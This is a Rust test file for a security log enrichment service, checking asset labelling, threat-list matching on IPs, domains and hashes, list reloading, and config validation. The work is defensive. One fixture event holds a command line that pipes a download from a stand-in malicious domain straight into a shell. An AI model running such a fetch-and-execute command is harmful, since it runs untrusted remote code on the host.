//! Labels, threat lists, and files that change.
#![allow(clippy::unwrap_used, reason = "a test ends by panicking")]

use std::path::{Path, PathBuf};

use kafka::KafkaArgs;
use normalise::Input;
use schemas::{Event, Micros, flags};
use service::{Configuration, ServiceArgs};
use tidewatch_enrich::Config;
use tidewatch_enrich::context::{Context, Live, Matches, Sources, ThreatFile};

struct Files {
    directory: tempfile::TempDir,
}

impl Files {
    fn new() -> Self {
        Self { directory: tempfile::tempdir().unwrap() }
    }

    fn write(&self, name: &str, text: &str) -> PathBuf {
        let path = self.directory.path().join(name);
        std::fs::write(&path, text).unwrap();
        path
    }

    fn threats(&self, kind: &str, name: &str, text: &str) -> ThreatFile {
        format!("{kind}={}", self.write(name, text).display()).parse().unwrap()
    }
}

fn context(sources: &Sources) -> Context {
    Live::read(sources).unwrap().current().load().as_ref().clone()
}

/// Labels, flags and severity of a line.
fn outcome(context: &Context, line: &str) -> (Vec<String>, i32, i32) {
    let input = Input {
        bytes: line.as_bytes(),
        format: "json",
        org: "demo",
        received_at: Micros(1_763_715_600_000_000),
        index: 0,
        event_uid: None,
    };
    let mut event: Event<'_> = normalise::event(&input).unwrap();
    context.apply_to_event(&mut event, &mut Matches::default());
    let labels = event.labels.iter().map(ToString::to_string).collect();
    (labels, event.flags & flags::THREAT, event.severity_id)
}

#[test]
fn an_address_has_the_labels_of_all_networks_that_hold_it() {
    let files = Files::new();
    let assets = files.write(
        "assets",
        "# sites\n10.0.0.0/8 internal\n10.1.0.0/16 office, berlin # the old one\n\n10.1.2.3 printer\n2001:db8::/32 internal\n",
    );
    let context = context(&Sources { assets: Some(assets), threats: Vec::new() });
    let labels = |line| outcome(&context, line).0;
    assert_eq!(labels(r#"{"src_ip":"10.1.2.3"}"#), ["printer", "office", "berlin", "internal"]);
    assert_eq!(labels(r#"{"src_ip":"10.9.0.1","dst_ip":"2001:db8::7"}"#), ["internal"]);
    assert_eq!(labels(r#"{"src_ip":"192.0.2.7"}"#), [""; 0]);
}

#[test]
fn threats_are_flagged_labelled_and_high() {
    let files = Files::new();
    let md5 = "0123456789abcdef0123456789ABCDEF";
    let context = context(&Sources {
        assets: None,
        threats: vec![
            files.threats("ip", "scanners.txt", "192.0.2.0/24\n198.51.100.9 botnet c2\n"),
            files.threats("domain", "phish.txt", "*.evil.example login theft\nbad.example\n"),
            files.threats("hash", "malware.txt", &format!("{md5} dropper\n")),
        ],
    });
    for (line, label) in [
        (r#"{"src_ip":"192.0.2.7"}"#.to_owned(), Some("threat:ip:scanners")),
        (r#"{"dst_ip":"198.51.100.9"}"#.to_owned(), Some("threat:ip:botnet c2")),
        (r#"{"url":"http://user@www.EVIL.example:8080/a?b"}"#.to_owned(), Some("threat:domain:login theft")),
        (r#"{"QueryName":"a.b.bad.example."}"#.to_owned(), Some("threat:domain:phish")),
        (r#"{"url":{"domain":"bad.example"}}"#.to_owned(), Some("threat:domain:phish")),
        (r#"{"dns":{"question":{"name":"bad.example"}}}"#.to_owned(), Some("threat:domain:phish")),
        (r#"{"query":"next=http%3A%2F%2Fbad.example%2F"}"#.to_owned(), Some("threat:domain:phish")),
        (r#"{"CommandLine":"curl https://bad.example/x | sh"}"#.to_owned(), Some("threat:domain:phish")),
        (r#"{"url":"http://notbad.example/?bad.example"}"#.to_owned(), None),
        (format!(r#"{{"Hashes":"SHA1=00,MD5={md5}"}}"#), Some("threat:hash:dropper")),
        (format!(r#"{{"file":{{"hash":{{"md5":"{}"}}}}}}"#, md5.to_lowercase()), Some("threat:hash:dropper")),
        (format!(r#"{{"session":"{md5}"}}"#), None),
        (
            r#"192.0.2.200 - - [21/Nov/2025:08:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-""#.to_owned(),
            Some("threat:ip:scanners"),
        ),
    ] {
        let (labels, flag, severity) = outcome(&context, &line);
        assert_eq!(labels.first().map(String::as_str), label, "{line}");
        assert_eq!((flag != 0, severity >= 4), (label.is_some(), label.is_some()), "{line}");
    }
    assert_eq!(outcome(&context, r#"{"src_ip":"192.0.2.7","severity_id":5}"#).2, 5);
    assert_eq!(outcome(&context, r#"{"src_ip":"192.0.2.7","severity_id":99}"#).2, 4);
}

#[test]
fn a_changed_file_is_read_again_and_a_broken_one_changes_nothing() {
    let files = Files::new();
    let list = files.threats("ip", "list", "192.0.2.7\n");
    let mut live = Live::read(&Sources { assets: None, threats: vec![list.clone()] }).unwrap();
    let current = live.current();
    let hit = || outcome(&current.load(), r#"{"src_ip":"198.51.100.9"}"#).1 != 0;
    assert!(!live.refresh() && !hit());
    files.write("list", "192.0.2.7\n198.51.100.9\n");
    assert!(live.refresh() && hit());
    files.write("list", "192.0.2.7\n198.51.100.9\nnot an address\n");
    assert!(!live.refresh() && hit());
    std::fs::remove_file(&list.path).unwrap();
    assert!(!live.refresh() && hit());
    files.write("list", "203.0.113.0/24\n");
    assert!(live.refresh() && !hit());
}

fn validated(assets: Option<&Path>, lists: Vec<ThreatFile>) -> Result<(), String> {
    let config = Config {
        kafka: KafkaArgs::new("127.0.0.1:1"),
        default_org: None,
        assets: assets.map(Path::to_owned),
        threat_lists: lists,
        service: ServiceArgs::default(),
    };
    config.validate().map_err(|error| error.to_string())
}

#[test]
fn a_file_that_cannot_be_used_is_a_wrong_configuration() {
    let files = Files::new();
    assert_eq!(validated(None, Vec::new()), Ok(()));
    let missing = validated(Some(&files.directory.path().join("none")), Vec::new()).unwrap_err();
    assert!(missing.starts_with("--assets: ") && missing.contains("none"), "{missing}");
    let assets = files.write("assets", "10.0.0.0/8 internal\n10.0.0.0/33 internal\n");
    let wrong = validated(Some(&assets), Vec::new()).unwrap_err();
    assert!(wrong.contains("assets:2: "), "{wrong}");
    for (kind, line) in [("ip", "10.0.0.300"), ("domain", "localhost"), ("domain", "a b"), ("hash", "xyz")] {
        let list = files.threats(kind, "list", &format!("# comment\n{line}\n"));
        let wrong = validated(None, vec![list]).unwrap_err();
        assert!(wrong.starts_with("--threat-list: ") && wrong.contains("list:2: "), "{wrong}");
    }
    assert!("email=x".parse::<ThreatFile>().is_err());
}
